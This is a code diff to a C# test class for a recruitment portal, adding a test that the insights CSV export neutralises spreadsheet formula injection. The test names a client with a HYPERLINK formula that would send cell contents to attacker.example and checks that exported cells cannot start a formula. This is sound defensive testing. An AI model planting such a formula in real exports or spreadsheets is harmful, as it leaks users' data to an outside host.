@@ -41,7 +41,7 @@ public sealed class InsightsPagesTests(PortalFactory app) : IClassFixture<Portal
     /// the firm proposed on brief 1 and was engaged, the team proposed on brief 2. Two outcomes promised by 25 October, given on the
     /// 24th and the 28th; one decision promised by 15 October still open.
     /// </summary>
-    private async Task<(Guid Rpo, HttpClient Coordinator)> SeedAsync()
+    private async Task<(Guid Rpo, HttpClient Coordinator)> SeedAsync(string clientName = ClientName)
     {
         var email = $"lee.{Guid.NewGuid():N}@lakeside.example";
         var rpo = await app.WithAsync(async sp =>
@@ -50,7 +50,7 @@ public sealed class InsightsPagesTests(PortalFactory app) : IClassFixture<Portal
             var id = await accounts.CreateOrganisationAsync("Lakeside Talent", OrganisationKind.RpoProvider, Cancel);
             (await accounts.RegisterInvitedAsync(new RegisterInvited(id, email, "Lee Lake", "Lakeside2027x", SignIn: false), Cancel))
                 .Succeeded.ShouldBeTrue();
-            (await sp.GetRequiredService<IBriefs>().AddClientCompanyAsync(new AddClientCompany(id, ClientName, "pharma"), Cancel)).Succeeded.ShouldBeTrue();
+            (await sp.GetRequiredService<IBriefs>().AddClientCompanyAsync(new AddClientCompany(id, clientName, "pharma"), Cancel)).Succeeded.ShouldBeTrue();
             return id;
         });
         var client = (await app.WithAsync(sp => sp.GetRequiredService<IBriefs>().ListClientCompaniesAsync(rpo, Cancel))).Single().Id;
@@ -113,6 +113,23 @@ public sealed class InsightsPagesTests(PortalFactory app) : IClassFixture<Portal
         }
 
         return rows;
+    }
+
+    [Fact]
+    public async Task A_client_named_like_a_spreadsheet_formula_is_downloaded_as_text_that_a_spreadsheet_does_not_run()
+    {
+        const string formula = "=HYPERLINK(\"https://attacker.example/?leak=\"&A1,\"Open the report\")";
+        var (_, lee) = await SeedAsync(formula);
+
+        var clients = await CsvAsync(lee, $"/rpo/insights?handler=Csv&table=clients&{Period}");
+        clients.Single()["Name"].ShouldBe("'" + formula, "written after an apostrophe, so that it is text");
+        foreach (var table in new[] { "months", "channels", "clients", "sectors" })
+        {
+            foreach (var cell in (await CsvAsync(lee, $"/rpo/insights?handler=Csv&table={table}&{Period}")).SelectMany(row => row.Values))
+            {
+                "=+-@\t\r".ShouldNotContain(cell.FirstOrDefault(' '), $"a cell of {table} starts a formula: {cell}");
+            }
+        }
     }
 
     [Fact]
